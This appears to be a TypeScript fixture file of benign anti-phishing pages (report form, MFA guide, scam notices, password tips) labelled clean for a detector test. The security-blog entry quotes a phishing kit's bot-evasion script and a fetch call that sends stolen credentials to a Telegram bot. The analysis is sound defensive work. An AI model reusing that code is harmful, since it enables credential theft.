import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-article-report-phishing-form',
  label: 'clean',
  kind: 'article',
  url: 'https://www.telvanta.com/trust/report-phishing',
  routes: {
    'www.telvanta.com/trust/report-phishing': htmlRoute(`<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Report phishing or a suspicious message | Telvanta Trust Center</title>
<style>
body{margin:0;font-family:"IBM Plex Sans",Arial,sans-serif;color:#162029;background:#fff}
header{background:#101c2c;color:#fff;padding:16px 32px;display:flex;justify-content:space-between}
header a{color:#b9c7d8;margin-left:18px;font-size:14px;text-decoration:none}
.w{max-width:760px;margin:30px auto;padding:0 20px;line-height:1.6}
form{background:#f5f7fa;border-radius:8px;padding:22px;margin-top:20px}
label{display:block;font-weight:600;font-size:14px;margin:14px 0 6px}
input,textarea,select{width:100%;border:1px solid #b5c0cc;border-radius:4px;padding:10px;font-size:15px;box-sizing:border-box;font-family:inherit}
textarea{height:140px}
button{margin-top:18px;background:#1458d4;color:#fff;border:0;border-radius:4px;padding:12px 24px;font-size:15px}
.warn{background:#fff4e5;border-left:4px solid #ff9800;padding:12px;font-size:14px}
</style>
</head>
<body>
<header><b>Telvanta Trust Center</b><nav><a href="/trust">Overview</a><a href="/trust/security">Security</a><a href="/trust/privacy">Privacy</a><a href="/trust/status">Status</a></nav></header>
<div class="w">
<h1>Report phishing or a suspicious message</h1>
<p>Did you receive an email, text or call claiming to be from Telvanta that asked you to sign in, confirm your payment details or "unlock" your account? Help us take it down. Our security team reviews every report, usually within one business day, and works with hosting providers and registrars to remove fake sites.</p>
<div class="warn"><b>Please do not include your password, card number or any one-time codes in this form.</b> We will never ask for them.</div>
<form method="post" action="/trust/report-phishing/submit" enctype="multipart/form-data">
<input type="hidden" name="_csrf" value="tv-9b1f0c">
<label for="rt">What did you receive?</label><select id="rt" name="type"><option>Email</option><option>Text message (SMS)</option><option>Phone call</option><option>Website / ad</option><option>Social media message</option></select>
<label for="url">Suspicious link or website address (if any)</label><input id="url" name="url" placeholder="e.g. telvanta-billing-update.com">
<label for="hdr">Message content or full email headers</label><textarea id="hdr" name="content" placeholder="Paste the message, or the full headers (in Gmail: ⋮ › Show original)."></textarea>
<label for="att">Attach a screenshot (optional)</label><input id="att" type="file" name="screenshot" accept="image/*">
<label for="em">Your email address (so we can follow up)</label><input id="em" name="reporter_email" type="email" autocomplete="email">
<button type="submit">Send report</button>
</form>
<h2>If you already entered your details</h2>
<p>Change your Telvanta password at <a href="https://account.telvanta.com/security">account.telvanta.com/security</a>, review your active sessions, and contact your bank if you entered card details. You can also forward phishing emails directly to <b>phish@telvanta.com</b>.</p>
</div>
</body>
</html>`),
  },
},
{
  id: 'a-article-uni-mfa-setup-qr',
  label: 'clean',
  kind: 'article',
  url: 'https://it.ostfold-college.no/guides/mfa/set-up-authenticator',
  routes: {
    'it.ostfold-college.no/guides/mfa/set-up-authenticator': htmlRoute(`<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Set up Microsoft Authenticator for your college account – IT Services</title>
<style>
body{margin:0;font-family:"Open Sans",Arial,sans-serif;color:#222;line-height:1.6}
header{background:#5a1e5c;color:#fff;padding:14px 28px}
header a{color:#fff;text-decoration:none}
.layout{display:flex;max-width:1060px;margin:0 auto;gap:30px;padding:20px}
nav.toc{width:220px;font-size:14px}nav.toc a{display:block;color:#5a1e5c;margin:6px 0}
main{flex:1}
.step{border-left:4px solid #5a1e5c;padding-left:14px;margin:18px 0}
.qr{border:1px solid #ddd;padding:10px;display:inline-block;text-align:center;font-size:12px;color:#555}
.note{background:#f4eef5;padding:12px;border-radius:4px;font-size:14px}
</style>
</head>
<body>
<header><a href="/"><b>Østfold College · IT Services</b></a></header>
<div class="layout">
<nav class="toc"><b>Guides</b><a href="/guides/password">Change your password</a><a href="/guides/mfa/set-up-authenticator">Set up MFA</a><a href="/guides/mfa/new-phone">MFA on a new phone</a><a href="/guides/vpn">VPN</a><a href="/guides/eduroam">Eduroam</a></nav>
<main>
<h1>Set up Microsoft Authenticator for your college account</h1>
<p>All students and staff must use multi-factor authentication (MFA) to sign in to Outlook, Teams and Canvas. This guide takes about five minutes.</p>
<div class="step"><b>Step 1.</b> Install <b>Microsoft Authenticator</b> from the App Store or Google Play. You can scan this code with your phone camera to open the store page:<br><br><span class="qr"><img src="/guides/mfa/img/authenticator-store-qr.png" alt="QR code linking to the Microsoft Authenticator download page" width="120" height="120"><br>aka.ms/authapp</span></div>
<div class="step"><b>Step 2.</b> On a computer, go to <a href="https://mysignins.microsoft.com/security-info">mysignins.microsoft.com/security-info</a> and sign in with your college email (e.g. <i>ola.nordmann@ostfold-college.no</i>) and password.</div>
<div class="step"><b>Step 3.</b> Choose <b>Add sign-in method › Authenticator app › Next</b>. A QR code appears <i>on the Microsoft page</i>. In the Authenticator app tap <b>+ › Work or school account › Scan QR code</b>.</div>
<div class="step"><b>Step 4.</b> Approve the test notification and enter the number shown on screen.</div>
<div class="note"><b>Important:</b> Only scan MFA QR codes shown on mysignins.microsoft.com after <i>you</i> started the setup. IT Services will never email you a QR code and ask you to "re-enrol" MFA, and we will never ask for your password. If you get such an email, report it with the <b>Report</b> button in Outlook.</div>
<h2>Need help?</h2>
<p>Visit the IT desk in building C, room 104 (Mon–Fri 08:30–15:30), or call 69 21 50 00.</p>
</main>
</div>
</body>
</html>`),
  },
},
{
  id: 'a-article-kit-analysis-blog',
  label: 'clean',
  kind: 'article',
  url: 'https://blog.seaglass-security.com/2025/02/dissecting-a-telegram-exfil-phishing-kit/',
  body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Dissecting a Telegram-exfil phishing kit targeting Microsoft 365 users | Seaglass Security Blog</title>
<meta property="og:type" content="article">
<meta name="author" content="Lena Okafor">
<link rel="stylesheet" href="/assets/css/blog.css">
<style>
body{margin:0;font-family:"Merriweather",Georgia,serif;color:#1e2326;background:#fff;line-height:1.7}
.nav{font-family:Arial,sans-serif;display:flex;justify-content:space-between;padding:16px 30px;border-bottom:1px solid #eee}
.nav a{color:#1e2326;margin-left:16px;text-decoration:none;font-size:14px}
article{max-width:740px;margin:30px auto;padding:0 20px}
h1{font-size:34px;line-height:1.25}
.meta{font-family:Arial;font-size:13px;color:#6a747c}
pre{background:#0f1720;color:#d6e2ee;padding:14px;border-radius:6px;overflow:auto;font-size:13px;line-height:1.5}
code{font-size:.9em;background:#f1f3f5;padding:1px 4px;border-radius:3px}
table{border-collapse:collapse;font-family:Arial;font-size:13px;width:100%}td,th{border:1px solid #ddd;padding:6px;text-align:left}
</style>
</head>
<body>
<div class="nav"><b>Seaglass Security</b><span><a href="/">Blog</a><a href="/research">Research</a><a href="https://seaglass-security.com/contact">Contact</a></span></div>
<article>
<h1>Dissecting a Telegram-exfil phishing kit targeting Microsoft 365 users</h1>
<p class="meta">Lena Okafor · 18 February 2025 · 9 min read · Tags: phishing, threat-intel, M365</p>
<p>Last month a customer forwarded us a "Secure Document" notification that led to a near-perfect clone of the Microsoft 365 sign-in page. We downloaded the kit from an exposed <code>.zip</code> on the same host and took it apart. This post walks through how it hides, how it steals credentials, and what defenders can hunt for.</p>
<h2>Stage 1: the lure</h2>
<p>The email claimed "<i>You have received 2 secure documents from Accounts Payable. Review Document</i>". The button pointed at a compromised WordPress site, <code>/wp-content/uploads/2024/11/doc/index.php</code>, which answered with a 302 to the kit host.</p>
<h2>Stage 2: anti-analysis</h2>
<p>The landing page is almost empty. Its only script checks for automation before it decodes the real page:</p>
<pre>if (navigator.webdriver || /HeadlessChrome|bot|crawler/i.test(navigator.userAgent)) {
  document.body.innerHTML = '&lt;h1&gt;Under construction&lt;/h1&gt;';
} else {
  document.write(atob("PCFET0NUWVBFIGh0bWw+PGh0bWw+PGhlYWQ+...")); // truncated
}</pre>
<p>The decoded markup is the familiar two-step flow (email, then password) with the victim's address pre-filled from the URL fragment.</p>
<h2>Stage 3: exfiltration</h2>
<p>Instead of a PHP mailer, this kit posts credentials straight to a Telegram bot:</p>
<pre>fetch('https://api.telegram.org/bot' + TOKEN + '/sendMessage', {
  method: 'POST', headers: {'Content-Type': 'application/json'},
  body: JSON.stringify({ chat_id: CHAT, text: email + ':' + password })
});</pre>
<p>After the second password attempt the victim is sent to <code>office.com</code>, so most people assume they just mistyped.</p>
<h2>Indicators</h2>
<table><tr><th>Type</th><th>Value (defanged)</th></tr><tr><td>Kit host</td><td>sso-docs-secure[.]azureedge-cdn[.]com</td></tr><tr><td>Redirector</td><td>hxxps://www.example-dental[.]de/wp-content/uploads/…</td></tr><tr><td>Telegram bot id</td><td>7012…:AAH… (reported)</td></tr></table>
<h2>Defensive recommendations</h2>
<ul><li>Require phishing-resistant MFA (FIDO2 / passkeys) for admins and finance.</li><li>Alert on sign-ins from new ASNs immediately after a user clicks a link in mail.</li><li>Block newly registered domains at the proxy for the first 30 days.</li></ul>
<p>Thanks to the hosting provider's abuse team for taking the kit down within four hours of our report.</p>
</article>
</body>
</html>`,
},
{
  id: 'a-article-laposte-fr-arnaques-sms',
  label: 'clean',
  kind: 'article',
  url: 'https://aide.colisrapide.fr/securite/arnaques-sms-frais-de-livraison',
  body: `<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Arnaques par SMS : faux frais de livraison | Aide Colis Rapide</title>
<style>
body{margin:0;font-family:"Marianne",Arial,sans-serif;color:#1e1e1e;line-height:1.6;background:#fafafa}
header{background:#ffd100;padding:14px 28px;font-weight:800}
.c{max-width:760px;margin:24px auto;background:#fff;padding:28px;border-radius:6px}
.sms{background:#e9e9eb;border-radius:18px;padding:10px 14px;max-width:420px;margin:10px 0;font-family:-apple-system,Arial;font-size:14px}
.ok{background:#e6f4ea;border-radius:6px;padding:14px}
</style>
</head>
<body>
<header>Colis Rapide · Centre d'aide</header>
<div class="c">
<p style="font-size:13px;color:#666">Accueil › Sécurité › Fraude</p>
<h1>Faux SMS « frais de livraison » : comment les reconnaître</h1>
<p>Depuis plusieurs mois, des escrocs envoient des SMS en se faisant passer pour Colis Rapide. Ils vous demandent de payer une petite somme (souvent 1,99 € ou 2,99 €) pour « reprogrammer la livraison » ou « régler les frais de douane ». Le lien mène à un faux site qui imite le nôtre et récupère vos coordonnées bancaires.</p>
<h2>Exemples de messages frauduleux</h2>
<div class="sms">Colis Rapide : Votre colis est en attente de livraison. Veuillez confirmer le paiement des frais d'expédition (1,99 EUR) : hxxps://colisrapide-suivi-frais[.]com</div>
<div class="sms">[ColisRapide] Dernier avis : votre colis sera retourné à l'expéditeur. Mettez à jour votre adresse ici : hxxps://bit[.]ly/…</div>
<div class="sms">Votre code de confirmation de paiement est 482913. Ne le communiquez à personne.</div>
<p>Le dernier message est envoyé par <b>votre banque</b> : si vous l'avez reçu après avoir saisi votre carte sur un faux site, les escrocs tentent un paiement. Ne donnez jamais ce code.</p>
<div class="ok"><b>À retenir :</b> Colis Rapide ne demande jamais de paiement par SMS. Les éventuels droits de douane sont payés sur <b>colisrapide.fr</b>, depuis votre espace client, ou au livreur. Signalez les SMS frauduleux au <b>33700</b>.</div>
<h2>J'ai saisi mes coordonnées bancaires, que faire ?</h2>
<ol><li>Faites opposition à votre carte auprès de votre banque.</li><li>Surveillez vos relevés et contestez toute opération inconnue.</li><li>Déposez plainte sur <a href="https://www.service-public.fr/">service-public.fr</a> (plateforme THESEE).</li></ol>
</div>
</body>
</html>`,
},
{
  id: 'a-article-pwmanager-strong-passwords',
  label: 'clean',
  kind: 'article',
  url: 'https://www.vaultline.com/blog/how-to-create-a-strong-password',
  routes: {
    'www.vaultline.com/blog/how-to-create-a-strong-password': htmlRoute(`<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>How to create a strong password (and actually remember it) | Vaultline Blog</title>
<meta name="description" content="Passphrases, password managers and passkeys: a practical guide.">
<script async src="https://www.googletagmanager.com/gtag/js?id=G-VL8X2K1Q9Z"></script>
<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','G-VL8X2K1Q9Z',{anonymize_ip:true});</script>
<style>
body{margin:0;font-family:"Inter",system-ui,sans-serif;color:#111827;line-height:1.7}
.nav{display:flex;justify-content:space-between;align-items:center;padding:16px 40px;border-bottom:1px solid #f1f1f1}
.nav a{margin-left:22px;color:#374151;text-decoration:none;font-size:15px}
.nav .cta{background:#111827;color:#fff;padding:8px 16px;border-radius:8px}
article{max-width:720px;margin:40px auto;padding:0 20px}
.demo{border:1px solid #e5e7eb;border-radius:12px;padding:18px;background:#f9fafb}
.demo .field{display:flex;justify-content:space-between;background:#fff;border:1px solid #d1d5db;border-radius:8px;padding:10px;margin:8px 0;font-family:monospace}
.pill{font-family:Inter;font-size:12px;background:#d1fae5;color:#065f46;padding:2px 8px;border-radius:10px}
</style>
</head>
<body>
<div class="nav"><b>vaultline</b><span><a href="/features">Features</a><a href="/pricing">Pricing</a><a href="/blog">Blog</a><a href="https://app.vaultline.com/login">Log in</a><a class="cta" href="/signup">Get started free</a></span></div>
<article>
<h1>How to create a strong password (and actually remember it)</h1>
<p>Most account takeovers don't involve genius hackers. They involve a reused password from an old breach, or a password typed into a convincing copy of a login page. Here's how to make both much harder.</p>
<h2>1. Length beats complexity</h2>
<p><code>P@ssw0rd!</code> looks complex but is in every cracking dictionary. A four-word passphrase like <code>orbit-cactus-velvet-harbor</code> is longer, easier to type and far harder to guess.</p>
<div class="demo"><b>Example: what Vaultline's generator shows</b>
<div class="field"><span>correct-lantern-mosaic-fjord-72</span><span class="pill">Very strong</span></div>
<div class="field"><span>Summer2024!</span><span class="pill" style="background:#fee2e2;color:#991b1b">Found in 14 breaches</span></div></div>
<h2>2. Never reuse passwords</h2>
<p>If your streaming password is the same as your email password, a breach at one exposes both. A password manager remembers a unique password for every site.</p>
<h2>3. Let autofill protect you from phishing</h2>
<p>Vaultline only fills your PayPal password on <b>paypal.com</b>, your Microsoft password on <b>login.microsoftonline.com</b>, and so on. If you land on <i>paypa1-secure-login.com</i> and autofill stays empty, that's your warning sign.</p>
<h2>4. Move to passkeys where you can</h2>
<p>Google, Apple, Microsoft, Amazon and many banks now support passkeys. They can't be typed into a fake site at all.</p>
</article>
</body>
</html>`),
  },
},
{
  id: 'a-article-ja-card-phishing-notice',
  label: 'clean',
  kind: 'article',
  url: 'https://www.sakura-card.co.jp/security/phishing/notice20250310.html',
  body: `<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>当社を装ったフィッシングメールにご注意ください｜さくらカード</title>
<style>
body{margin:0;font-family:"Hiragino Kaku Gothic ProN","Noto Sans JP",Meiryo,sans-serif;color:#222;line-height:1.8}
header{border-bottom:3px solid #d6336c;padding:12px 24px;display:flex;justify-content:space-between;align-items:center}
header a{font-size:13px;margin-left:14px;color:#333}
main{max-width:760px;margin:20px auto;padding:0 20px}
.mail{border:1px solid #ccc;background:#f8f8f8;padding:14px;font-size:14px}
.red{color:#c00;font-weight:bold}
table{border-collapse:collapse;width:100%;font-size:14px}th,td{border:1px solid #ddd;padding:8px}th{background:#fbe9ef}
</style>
</head>
<body>
<header><img src="/common/img/logo.svg" alt="さくらカード" height="34"><nav><a href="/">ホーム</a><a href="/security/">セキュリティ</a><a href="https://member.sakura-card.co.jp/login">会員ログイン</a></nav></header>
<main>
<p style="font-size:13px;color:#666">2025年3月10日</p>
<h1 style="font-size:24px">当社を装ったフィッシングメールにご注意ください</h1>
<p>当社を装い、会員専用サイトに似せた偽サイトへ誘導するメールやSMSが確認されています。偽サイトでID・パスワード、カード番号、有効期限、セキュリティコード、生年月日等を入力しないようご注意ください。</p>
<h2 style="font-size:18px">確認されているメールの例</h2>
<div class="mail">件名：【重要】ご利用確認のお願い<br>いつもさくらカードをご利用いただきありがとうございます。お客様のカードに第三者による不正利用の可能性があるため、ご利用を一時制限しております。以下のURLよりご本人様確認をお願いいたします。</div>
<table><tr><th>差出人（表示名）</th><td>さくらカード / Sakura Card Security</td></tr><tr><th>偽サイトのURL例</th><td>sakura-card.co.jp.xxxx-security[.]com、sakuracard-verify[.]top など</td></tr></table>
<p class="red">当社からのメールで、カード番号や暗証番号、パスワードの入力をお願いすることはありません。</p>
<p>万一、偽サイトに情報を入力してしまった場合は、すぐにカード裏面のお問い合わせ窓口（24時間受付）までご連絡ください。</p>
</main>
</body>
</html>`,
},
];
